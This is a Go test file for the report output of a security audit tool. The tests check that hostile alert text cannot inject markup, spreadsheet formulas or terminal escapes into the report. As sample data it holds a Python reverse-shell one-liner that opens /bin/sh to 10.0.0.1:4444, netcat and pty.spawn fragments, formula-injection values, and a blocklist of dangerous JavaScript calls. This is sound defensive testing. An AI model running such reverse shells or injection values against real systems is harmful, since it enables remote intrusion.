package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/auditpy/auditpy/internal/event"
	"github.com/auditpy/auditpy/rules/rule"
)

// TestPageFile looks at the file as a browser will read it.
func TestPageFile(t *testing.T) {
	p := new(Page)
	for i, text := range hostile {
		p.Add(sample(i, text))
	}
	var b bytes.Buffer
	if err := p.Write(&b, About{Sources: hostile, Problems: hostile, Version: "</script>"}); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	if n := strings.Count(strings.ToLower(page), "</script"); n != 2 {
		t.Errorf("%d ends of script elements, want 2", n)
	}
	_, data, _ := strings.Cut(page, `id="data">`)
	data, _, _ = strings.Cut(data, "</script>")
	if i := strings.IndexAny(data, "<>\u2028\u2029"); i >= 0 {
		t.Errorf("data has %q", data[i:min(len(data), i+40)])
	}
	var doc struct{ Alerts []row }
	if err := json.Unmarshal([]byte(data), &doc); err != nil || len(doc.Alerts) != len(hostile) {
		t.Fatalf("%d alerts, %v", len(doc.Alerts), err)
	}
	if urls := regexp.MustCompile(`(?i)(src|href|url\()\s*=?\s*["']?https?:`).FindAllString(page, -1); urls != nil {
		t.Errorf("the page asks a network for %q", urls)
	}
}

// TestPageScript: nothing in the script makes markup or code of a text, and it does not end its own element.
func TestPageScript(t *testing.T) {
	for _, word := range []string{"innerHTML", "outerHTML", "insertAdjacent", "document.write", "eval(", "Function(", "setTimeout(\"", "<!--", "</script", "fetch(", "XMLHttp", "import(", ".href", ".src"} {
		if strings.Contains(pageJS, word) {
			t.Errorf("page.js has %q", word)
		}
	}
	if strings.Contains(pageCSS, "url(") || strings.Contains(pageCSS, "@import") || strings.Contains(pageCSS, "</style") {
		t.Error("page.css fetches something, or ends its element")
	}
}

// TestKept: what is over the bounds is of the lowest levels, the newest first.
func TestKept(t *testing.T) {
	k := kept{alerts: 3, bytes: 100}
	for _, l := range []rule.Level{rule.Low, rule.High, rule.Low, rule.Medium, rule.High} {
		k.add(l, []byte{byte('0' + l)}, Place{})
	}
	if got := order(&k); got != "323" || k.dropped != [5]int{0, 2, 0, 0, 0} {
		t.Errorf("kept %s, dropped %v", got, k.dropped)
	}
	k.add(rule.Critical, make([]byte, 99), Place{})
	if k.n != 2 || k.size != 100 || k.left() != 4 {
		t.Errorf("%d alerts of %d bytes, %d left out; want 2 of 100, 4", k.n, k.size, k.left())
	}
}

func order(k *kept) string {
	var s strings.Builder
	for _, e := range k.all() {
		s.Write(e.data)
	}
	return s.String()
}

func TestMarks(t *testing.T) {
	for _, tt := range []struct {
		value, words string
		want         string // what is marked, with | between
	}{
		{"/usr/bin/python3", "/python", "/python"},
		{"/usr/bin/PYTHON3", "python", "PYTHON"},
		{"sh -c nc 1.2.3.4", "*nc*1.2", "nc|1.2"},
		{"sh -c nc", `process.args : "nc"`, "nc"},
		{"import pty;pty.spawn(1)", `\bspawn\s*\(`, "spawn("},
		{"abc", `x(`, ""},
		{"abc", "zzz", ""},
		{"", "x", ""},
		{"caf\u00e9 \u0130 x", "x", "x"},
		{"a\xffb", "b", "b"},
	} {
		var m marker
		var got []string
		for _, s := range m.find(tt.value, tt.words) {
			got = append(got, tt.value[s.from:s.to])
		}
		if s := strings.Join(got, "|"); s != tt.want {
			t.Errorf("find(%q, %q) marks %q, want %q", tt.value, tt.words, s, tt.want)
		}
	}
}

// FuzzMarks: whatever is asked for, the parts that are marked lie in the value.
func FuzzMarks(f *testing.F) {
	f.Add("ends in /tmp/k", "/tmp/\u212a")
	f.Add("\u212a", "k")
	f.Add("a*b", "*A*")
	f.Fuzz(func(t *testing.T, value, words string) {
		var m marker
		for _, s := range m.find(value, words) {
			if s.from < 0 || s.to > len(value) || s.from > s.to {
				t.Fatalf("find(%q, %q): %v", value, words, s)
			}
		}
		parts := marked(value, shown(value, []string{words}))
		if got := strings.Join(parts, ""); got != value {
			t.Errorf("marked %q, want %q", parts, value)
		}
	})
}

// FuzzSegments: cut at marks, a text is what it was.
func FuzzSegments(f *testing.F) {
	f.Add("/usr/bin/python3 -c x", "python", 10)
	f.Add("a\xff\u202e", "*", 1)
	f.Fuzz(func(t *testing.T, value, words string, most int) {
		var m marker
		spans := m.find(value, words)
		for _, s := range spans {
			if s.from < 0 || s.to > len(value) || s.from > s.to {
				t.Fatalf("find(%q, %q) = %v", value, words, spans)
			}
		}
		most = 8 + most&0xff
		if cut, moved := around(value, spans, most); len(cut) > most+16 || len(moved) > len(spans) {
			t.Errorf("around(%q, %v, %d) has %d bytes", value, spans, most, len(cut))
		}
		parts := segments(value, nil)
		if len(parts) != 1 || strings.ContainsAny(parts[0], "\x00\x1b\n\u202e") {
			t.Errorf("segments(%q) = %q", value, parts)
		}
		if got := strings.Join(marked(value, spans), ""); got != value && slices.IsSortedFunc(spans, func(a, b span) int { return a.from - b.from }) {
			t.Errorf("marked(%q, %v) = %q", value, spans, got)
		}
	})
}

// TestCSV: no cell begins with what a spreadsheet runs, and each line has all columns.
func TestCSV(t *testing.T) {
	var b bytes.Buffer
	c := NewCSV(&b)
	for i, text := range hostile {
		a := sample(i, text)
		a.Event.Exec.Args = []string{text} // it begins the command
		a.Event.Process.User = text
		if err := c.Add(a); err != nil {
			t.Fatal(err)
		}
	}
	lines, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(lines) != len(hostile)+1 {
		t.Fatalf("%d lines, %v", len(lines), err)
	}
	if !slices.Equal(lines[0], columns) {
		t.Errorf("names %q", lines[0])
	}
	for _, cells := range lines[1:] {
		for i, cell := range cells {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") || strings.ContainsAny(cell, "\x00\x1b\n\r\t\u202e") {
				t.Errorf("%s: %.60q", columns[i], cell)
			}
		}
	}
	b.Reset()
	if err := NewCSV(&b).Begin(); err != nil || b.String() != strings.Join(columns, ",")+"\n" {
		t.Errorf("without alerts: %q, %v", b.String(), err)
	}
	for in, want := range map[string]string{"=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx", "a=1": "a=1", "": ""} {
		if got := harmless(in); got != want {
			t.Errorf("harmless(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestSARIF looks at what consumers rely on. The file of the zoo has no error by the schema of OASIS.
func TestSARIF(t *testing.T) {
	s := new(SARIF)
	for i, text := range hostile {
		at := Place{}
		if i%2 == 0 {
			at = Place{"/var/log/a b%.log", int64(i)}
		}
		s.Add(sample(i, text), at)
	}
	s.Add(sample(1000, "x"), Place{"a:b/c.log", 7})
	var b bytes.Buffer
	if err := s.Write(&b, About{Problems: []string{"broken"}}, func(p Place) int64 { return p.Offset }); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Version string
		Runs    []struct {
			Tool        struct{ Driver sarifDriver }
			Invocations []sarifInvocation
			Results     []struct {
				sarifResult
				Locations []sarifLocation
			}
		}
	}
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil || doc.Version != "2.1.0" || len(doc.Runs) != 1 {
		t.Fatalf("%v: %.300s", err, b.String())
	}
	run := doc.Runs[0]
	if len(run.Results) != len(hostile)+1 || len(run.Invocations) != 1 || run.Invocations[0].Successful {
		t.Fatalf("%d results, invocations %+v", len(run.Results), run.Invocations)
	}
	for i, r := range run.Results {
		if r.RuleIndex >= len(run.Tool.Driver.Rules) || run.Tool.Driver.Rules[r.RuleIndex].ID != r.RuleID || r.Level != "error" || r.Message.Text == "" || r.Fingerprints["auditpyAlertId/v1"] == "" {
			t.Errorf("result %d: %+v", i, r.sarifResult)
		}
	}
	loc := run.Results[2].Locations
	if len(loc) != 1 || loc[0].Physical.Artifact.URI != "file:///var/log/a%20b%25.log" || loc[0].Physical.Region.StartLine != 2 || len(run.Results[1].Locations) != 0 {
		t.Errorf("locations %+v, %+v", loc, run.Results[1].Locations)
	}
	if uri := run.Results[len(hostile)].Locations[0].Physical.Artifact.URI; uri != "./a:b/c.log" {
		t.Errorf("a colon in a relative name: %q", uri)
	}
	for _, r := range run.Tool.Driver.Rules {
		if r.Help.Text == "" || r.Short.Text == "" || r.HelpURI != "https://attack.mitre.org/" {
			t.Errorf("rule %+v", r)
		}
	}
}

func TestSave(t *testing.T) {
	name := filepath.Join(t.TempDir(), "report.html")
	if err := os.WriteFile(name, []byte("<!DOCTYPE html>old"), 0o644); err != nil {
		t.Fatal(err)
	}
	broken := errors.New("broken")
	if err := Save(name, func(w io.Writer) error { _, _ = io.WriteString(w, "ne"); return broken }); !errors.Is(err, broken) {
		t.Errorf("Save = %v, want %v", err, broken)
	}
	check := func(want string, mode os.FileMode) {
		t.Helper()
		got, _ := os.ReadFile(name)
		info, err := os.Stat(name)
		files, _ := os.ReadDir(filepath.Dir(name))
		if err != nil || string(got) != want || info.Mode() != mode || len(files) != 1 {
			t.Errorf("%q with mode %v among %d files (%v), want %q, %v and nothing else", got, info.Mode(), len(files), err, want, mode)
		}
	}
	check("<!DOCTYPE html>old", 0o644)
	log := filepath.Join(t.TempDir(), "audit.log")
	_ = os.WriteFile(log, []byte("type=EXECVE"), 0o600)
	if err := Save(log, func(w io.Writer) error { return nil }); err == nil || MaySave(log) == nil {
		t.Error("a log was replaced")
	}
	if b, _ := os.ReadFile(log); string(b) != "type=EXECVE" {
		t.Errorf("the log has %q", b)
	}
	if err := Save(name, func(w io.Writer) error { _, err := io.WriteString(w, "new"); return err }); err != nil {
		t.Error(err)
	}
	check("new", 0o600)
	if err := Save("/dev/null", func(w io.Writer) error { _, err := io.WriteString(w, "new"); return err }); err != nil {
		t.Errorf("a device: %v", err)
	}
}

// TestTerminal: colours are the only escapes, and without them the text is the plain one with a tree.
func TestTerminal(t *testing.T) {
	colors := regexp.MustCompile(`\x1b\[[0-9;]*m`)
	for i, text := range hostile {
		a := sample(i, text)
		plain := string(Terminal{}.Append(nil, a))
		if want := string(a.AppendText(nil)); plain != want {
			t.Fatalf("without anything: %q, want %q", plain, want)
		}
		tree := string(Terminal{Tree: true, Width: 80}.Append(nil, a))
		painted := string(Terminal{Tree: true, Color: true, Width: 80}.Append(nil, a))
		if got := colors.ReplaceAllString(painted, ""); got != tree {
			t.Errorf("%q: with colours %q, without %q", text, got, tree)
		}
		if strings.ContainsAny(tree, "\x00\x1b\r\u202e") || strings.Count(tree, "\n") != strings.Count(plain, "\n")+1 {
			t.Errorf("%q: %q", text, tree)
		}
	}
	a := sample(1, "x")
	a.Event.Process.Parent = nil
	if got, want := string(Terminal{Tree: true}.Append(nil, a)), string(a.AppendText(nil)); got != want {
		t.Errorf("a tree of one process: %q", got)
	}
	long := a.Event.Process
	for range 100 {
		long.Parent = &event.Process{PID: 7, Exe: strings.Repeat("é", 300)}
		long = long.Parent
	}
	got := string(Terminal{Tree: true, Width: 60}.Append(nil, a))
	for line := range strings.Lines(got) {
		if strings.Contains(line, "└") && len([]rune(line)) > 62 {
			t.Errorf("%d columns: %q", len([]rune(line)), line)
		}
	}
	if n := strings.Count(got, "└"); n != maxDepth-1 {
		t.Errorf("%d branches, want %d", n, maxDepth-1)
	}
}

// BenchmarkPage adds alerts of ordinary size; the bound on marks holds for those of hostile ones.
func BenchmarkPage(b *testing.B) {
	for _, bb := range []struct {
		name, text, words string
	}{
		{"ordinary", "import socket,os,pty;s=socket.create_connection(('10.0.0.1',4444));pty.spawn('/bin/sh')", `\bspawn["']?\s*\)?\s*\(`},
		{"hostile", strings.Repeat("a", 100_000), `(a+)+$(?<=b)`},
	} {
		b.Run(bb.name, func(b *testing.B) {
			b.ReportAllocs()
			p := new(Page)
			a := sample(1, bb.text)
			a.Evidence = slices.Repeat([]rule.Evidence{{Field: "CommandLine", Value: bb.text, Match: bb.words}}, 1)
			for b.Loop() {
				p.Add(a)
			}
		})
	}
}
